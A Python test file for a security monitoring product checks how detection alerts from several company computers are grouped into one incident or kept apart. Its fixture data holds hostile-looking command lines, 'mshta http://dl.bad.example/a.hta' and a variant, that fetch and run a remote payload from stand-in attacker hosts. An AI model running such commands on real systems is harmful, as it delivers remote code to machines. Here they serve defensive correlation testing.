"""Which incident an alert belongs to."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest

from finding_cast import DAY, HOUR, MINUTE, NOW, alerts_of, arrive, detection, incidents_of, watched
from otasuke.findings.live import LiveDetection
from otasuke.web.accounts.models import Person
from otasuke.web.incidents.changing import undo
from otasuke.web.incidents.models import Change, Incident
from otasuke.web.incidents.states import State
from otasuke.web.notify.models import Message, StaffCall
from otasuke.web.tenancy.scope import across, tenant_scope

FLOW = {"DestinationIp": "203.0.113.5", "Image": "a.exe"}


def test_an_attack_that_goes_on_to_the_next_computer_stays_one_incident(companies) -> None:
    first, second = watched(companies.minori), watched(companies.minori)

    arrive(detection("minori", "r1", by=first, sensor="KEIRI", fields=FLOW))
    arrive(detection("minori", "r2", by=second, sensor="EIGYO", fields=FLOW, at=NOW + HOUR), at=NOW + HOUR)

    assert len(incidents_of(companies.minori)) == 1


FETCH = {"CommandLine": "mshta http://dl.bad.example/a.hta"}


def test_an_attack_that_fetches_the_same_at_another_computer_is_the_same_incident(companies) -> None:
    first, second = watched(companies.minori), watched(companies.minori)
    arrive(detection("minori", "quiet", level="low", by=second, sensor="EIGYO", fields={"Image": "q.exe"}))

    arrive(
        detection("minori", "r1", by=first, sensor="KEIRI", fields=FETCH),
        detection("minori", "r1", by=second, sensor="EIGYO", fields=FETCH, at=NOW + MINUTE),
        at=NOW + MINUTE,
    )

    (incident,) = incidents_of(companies.minori)
    with tenant_scope(companies.minori.id):
        assert incident.belongings.count() == 3


@pytest.mark.parametrize(
    ("fields", "later"),
    [
        ({"CommandLine": "mshta http://another.bad.example/a.hta"}, MINUTE),
        ({"CommandLine": "mshta http://www.microsoft.com/a.hta"}, MINUTE),
        (FETCH, 4 * DAY),
    ],
)
def test_what_another_computer_fetches_elsewhere_or_much_later_is_another(companies, fields, later) -> None:
    first, second = watched(companies.minori), watched(companies.minori)
    shared = " http://www.microsoft.com/b"
    arrive(
        detection("minori", "r1", by=first, sensor="KEIRI", fields={"CommandLine": FETCH["CommandLine"] + shared}),
    )

    arrive(detection("minori", "r1", by=second, sensor="EIGYO", fields=fields, at=NOW + later), at=NOW + later)

    assert len(incidents_of(companies.minori)) == 2


def red(pc, sensor: str, **at: datetime) -> LiveDetection:
    """Something critical, on this computer alone."""
    return detection("minori", f"red {sensor}", by=pc, sensor=sensor, level="critical", fields={"Image": sensor}, **at)


def reds(companies, *, later: timedelta) -> list[Incident]:
    """The incidents of a company on whose two computers something critical was found, not at the same time."""
    first, second = watched(companies.minori), watched(companies.minori)
    arrive(red(first, "KEIRI"))
    arrive(red(second, "SERVER", at=NOW + later), at=NOW + later)
    return [one for one in incidents_of(companies.minori) if one.state != State.MERGED.value]


def test_two_reds_of_a_company_within_an_hour_are_one_attack_and_one_message(companies) -> None:
    (one,) = reds(companies, later=30 * MINUTE)

    with tenant_scope(companies.minori.id):
        assert one.belongings.count() == 2
        assert Message.objects.filter(closed_at=None).count() == 1
        assert Change.objects.get().kind == "merge"


def test_of_two_that_become_one_attack_the_one_stays_that_people_were_called_about(companies) -> None:
    first, second = watched(companies.minori), watched(companies.minori)
    arrive(detection("minori", "yellow", by=first, sensor="KEIRI", fields={"Image": "a.exe"}))
    (called,) = arrive(red(second, "SERVER", at=NOW + MINUTE), at=NOW + MINUTE)

    arrive(red(first, "KEIRI", at=NOW + 2 * MINUTE), at=NOW + 2 * MINUTE)

    (one,) = [one for one in incidents_of(companies.minori) if one.state != State.MERGED.value]
    assert one.id == called.id
    with across("tests"):
        assert StaffCall.objects.count() == 1


def test_two_reds_at_different_times_are_two(companies) -> None:
    assert len(reds(companies, later=2 * HOUR)) == 2


def test_two_that_somebody_has_parted_stay_apart(companies) -> None:
    person = Person.objects.create(name="早瀬 遥", email="hayase@example.jp")
    (one,) = reds(companies, later=30 * MINUTE)
    with tenant_scope(companies.minori.id):
        undo(Change.objects.get().id, actor=person, at=NOW + HOUR)
        keiri = one.lead.machine

    arrive(red(keiri, "KEIRI", at=NOW + HOUR), at=NOW + HOUR)

    assert len([one for one in incidents_of(companies.minori) if one.state != State.MERGED.value]) == 2


def test_two_incidents_that_turn_out_to_be_one_become_one_and_lose_nothing(companies) -> None:
    first, second = watched(companies.minori), watched(companies.minori)
    arrive(detection("minori", "r1", by=first, sensor="KEIRI", fields={"Image": "a.exe"}))
    arrive(detection("minori", "r2", by=second, sensor="EIGYO", fields={"Image": "b.exe", "User": "tanaka"}))
    assert len(incidents_of(companies.minori)) == 2

    link = {"Image": "c.exe", "User": "tanaka"}
    arrive(detection("minori", "r3", by=first, sensor="KEIRI", fields=link, at=NOW + MINUTE), at=NOW + MINUTE)

    states = [one.state for one in incidents_of(companies.minori)]
    assert sorted(states) == [State.MERGED.value, State.NEW.value]
    with tenant_scope(companies.minori.id):
        assert Change.objects.get().kind == "merge"
        assert {one.belonging.incident.state for one in alerts_of(companies.minori)} == {State.NEW.value}


def test_a_server_that_two_computers_talk_to_does_not_make_two_old_incidents_one(companies) -> None:
    first, second = watched(companies.minori), watched(companies.minori)
    arrive(
        detection("minori", "r1", by=first, sensor="KEIRI", fields={"Image": "a.exe", "DestinationIp": "203.0.113.1"})
    )
    arrive(
        detection("minori", "r2", by=second, sensor="EIGYO", fields={"Image": "b.exe", "DestinationIp": "203.0.113.2"})
    )

    both = {"Image": "c.exe", "DestinationIp": "203.0.113.2"}
    arrive(detection("minori", "r3", by=first, sensor="KEIRI", fields=both, at=NOW + MINUTE), at=NOW + MINUTE)

    assert [one.state for one in incidents_of(companies.minori)] == ["new", "new"]


def test_what_is_found_after_it_was_closed_is_another_incident(companies) -> None:
    from otasuke.web.accounts.models import Person
    from otasuke.web.incidents.changing import set_state
    from otasuke.web.incidents.states import Outcome

    pc = watched(companies.minori)
    (incident,) = arrive(detection("minori", by=pc))
    person = Person.objects.create(name="早瀬 遥", email="hayase@example.jp")
    with tenant_scope(companies.minori.id):
        set_state(incident.id, State.CLOSED, actor=person, at=NOW + HOUR, outcome=Outcome.BENIGN)

    (later,) = arrive(detection("minori", by=pc, at=NOW + 2 * HOUR), at=NOW + 2 * HOUR)

    assert later.id != incident.id
    assert [one.verdict for one in alerts_of(companies.minori)] == ["benign", ""]


def test_what_was_quiet_a_day_before_is_part_of_its_story_and_older_things_are_not(companies) -> None:
    pc = watched(companies.minori)
    arrive(detection("minori", "old", level="low", by=pc, at=NOW - 2 * DAY), at=NOW - 2 * DAY)
    arrive(detection("minori", "late", level="low", by=pc, at=NOW - HOUR), at=NOW - HOUR)

    arrive(detection("minori", "loud", by=pc))

    with tenant_scope(companies.minori.id):
        assert [hasattr(one, "belonging") for one in alerts_of(companies.minori)] == [False, True, True]


def test_the_desk_has_the_steps_of_the_sheet(companies) -> None:
    (incident,) = arrive(detection("minori", by=watched(companies.minori)))

    with tenant_scope(companies.minori.id):
        assert incident.tasks.count() >= 3
